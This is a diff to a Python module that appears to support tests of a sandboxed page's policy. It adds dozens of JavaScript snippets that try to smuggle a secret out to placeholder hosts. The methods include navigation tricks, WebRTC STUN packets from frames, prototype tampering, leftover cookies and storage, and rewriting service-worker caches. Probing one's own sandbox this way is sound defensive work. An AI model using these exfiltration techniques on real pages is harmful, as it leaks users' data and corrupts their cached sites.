@@ -1,7 +1,8 @@
 """Ways to get a word out of a page or a worker. Each is JavaScript in which OWN and OTHER are addresses.
 
 Each attack asks for a path that ends in its own name, so that a server's log tells which one got through.
-Leaving the page (a link, a new window) is not among them: no policy stops it, and decisions/0004 says so.
+What a policy governs is in ANYWHERE, WORKER and PAGE; what none does, and the lock of a tool's page stops all the
+same, is in BEYOND. What remains possible is in decisions/0004.
 """
 
 ANYWHERE = {
@@ -59,12 +60,89 @@ PAGE = {
     "frame-srcdoc": "add('iframe', { srcdoc: `<img src='${URL}'>` })",
 }
 
+FRAME = "add('iframe', {}).contentWindow"
+CALL = "call(new (%s).RTCPeerConnection({ iceServers: [{ urls: STUN }] }))"
+
+# URL answers with no page, so that whoever goes there stays; NAME is an address whose host alone tells; STUN takes UDP.
+BEYOND = {
+    # leaving without being seen to leave
+    "download": "add('a', { href: URL, download: 'x' }).click()",
+    "download-apart": "Object.assign(document.createElement('a'), { href: URL, download: 'x' }).click()",
+    "download-dispatched": "add('a', { href: URL, download: 'x' }).dispatchEvent(new MouseEvent('click'))",
+    "link": "add('a', { href: URL }).click()",
+    "link-of-a-picture": "{ const a = document.createElementNS('http://www.w3.org/2000/svg', 'a');"
+    " a.setAttribute('href', URL); document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));"
+    " document.body.lastChild.append(a); a.dispatchEvent(new MouseEvent('click')); }",
+    "location": "location.href = URL",
+    "location-replace": "location.replace(URL)",
+    "navigation": "navigation.navigate(URL)",
+    "open-self": "open(URL, '_self')",
+    "refresh": "document.head.append(Object.assign(document.createElement('meta'),"
+    " { httpEquiv: 'refresh', content: `0;url=${URL}` }))",
+    "refresh-of-another": "{ const m = document.querySelector('meta'); m.httpEquiv = 'refresh';"
+    " m.content = `0;url=${URL}`; }",
+    "reload-elsewhere": "history.pushState(null, '', URL); if (location.href === URL) location.reload()",
+    "form-here": "add('form', { action: URL }).submit()",
+    "page-of-its-own": "location.href = URL_.createObjectURL(new Blob([`<meta http-equiv=refresh"
+    " content='0;url=${URL}'>`], { type: 'text/html' }))",
+    "after-replacing-what-is-used": "Reflect.defineProperty(NavigateEvent.prototype, 'userInitiated',"
+    " { get: () => true }); Event.prototype.preventDefault = () => {}; Reflect.apply = () => undefined;"
+    " String.prototype.split = () => ['tel:']; location.href = URL",
+    # names of hosts
+    "frame-name": "add('iframe', { src: NAME })",
+    "form-name": "add('form', { action: NAME, method: 'post' }).submit()",
+    "location-name": "location.href = NAME",
+    # packets
+    "webrtc": CALL % "window",
+    "webrtc-of-a-frame": CALL % FRAME,
+    "webrtc-of-a-frame-ns": CALL % "add_ns('iframe').contentWindow",
+    "webrtc-of-an-indexed-frame": "add('iframe', {}); " + CALL % "window[0]",
+    "webrtc-of-markup": "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); " + CALL % "window[0]",
+    "webrtc-of-inner-markup": "document.body.innerHTML = '<iframe></iframe>'; " + CALL % "window[0]",
+    "webrtc-of-a-parsed-frame": "document.body.append(new DOMParser().parseFromString('<iframe></iframe>',"
+    " 'text/html').body.firstChild); " + CALL % "window[0]",
+    "webrtc-of-a-custom-frame": "customElements.define('x-y', class extends HTMLIFrameElement {},"
+    " { extends: 'iframe' }); document.body.append(new (customElements.get('x-y'))()); " + CALL % "window[0]",
+    "webrtc-of-an-object": "add('object', { type: 'text/html', data: 'about:blank' }); await rest(); "
+    + CALL % "window[0]",
+    # what stays on the device, for whoever comes next
+    "cookie": "document.cookie = 'secret=1; max-age=99999'",
+    "local": "localStorage.setItem('secret', '1')",
+    "database": "await new Promise((done) => { indexedDB.open('secret').onsuccess = done; })",
+    "cache-put": "await (await caches.open('secret')).put('/secret', new Response('secret'))",
+    "storage-of-a-frame": FRAME + ".localStorage.setItem('secret', '1')",
+    "caches-of-a-frame": f"await (await {FRAME}.caches.open('secret')).put('/secret', new Response('secret'))",
+}
+
+# From a page of a site of which this device keeps a copy. PLACE is the copy's scope, SECRET a word in a path.
+COPY = {
+    "message": "navigator.serviceWorker.controller.postMessage("
+    "{ type: 'CACHE_URLS', payload: { urlsToCache: [PLACE + SECRET] } })",
+    "preload-header": "{ const r = await navigator.serviceWorker.ready; await r.navigationPreload.enable();"
+    " await r.navigationPreload.setHeaderValue(SECRET); }",
+    "update": "await (await navigator.serviceWorker.ready).update()",
+    "register": "await navigator.serviceWorker.register(`${PLACE}copy.js?${SECRET}`)",
+    "write": "for (const name of await caches.keys()) for (const key of await (await caches.open(name)).keys())"
+    " if (/\\/parents\\/tonight\\//.test(key.url)) await (await caches.open(name)).put(key,"
+    " new Response(`<h1>${SECRET}</h1>`, { headers: { 'Content-Type': 'text/html' } }))",
+}
+
 HELPERS = """
 const window_blob = (text) => URL_.createObjectURL(new Blob([text], { type: 'text/javascript' }));
 const add = (tag, properties) => {
   const element = Object.assign(document.createElement(tag), properties);
   document.body.append(element);
   return element;
+};
+const rest = () => new Promise((done) => setTimeout(done, 100));
+const add_ns = (tag) => {
+  const element = document.createElementNS('http://www.w3.org/1999/xhtml', tag);
+  document.body.append(element);
+  return element;
+};
+const call = async (connection) => {
+  connection.createDataChannel('x');
+  await connection.setLocalDescription(await connection.createOffer());
 };
 const submit = (method) => {
   const frame = add('iframe', { name: `f${Math.random()}` });
@@ -73,6 +151,13 @@ const submit = (method) => {
   form.submit();
 };
 """
+
+
+def alone(attack: str, **given: str) -> str:
+    """JavaScript that tries one attack, with the constants it is `given`, and tells no one if it fails."""
+    constants = " ".join(f"const {name} = {value!r};" for name, value in given.items())
+    # The page's own URL goes by another name, as in `script`.
+    return f"{{ const URL_ = window.URL; {{ {constants} {HELPERS} try {{ {attack}; }} catch {{}} }} }}"
 
 
 def script(attacks: dict[str, str], targets: list[str], mark: str) -> str:
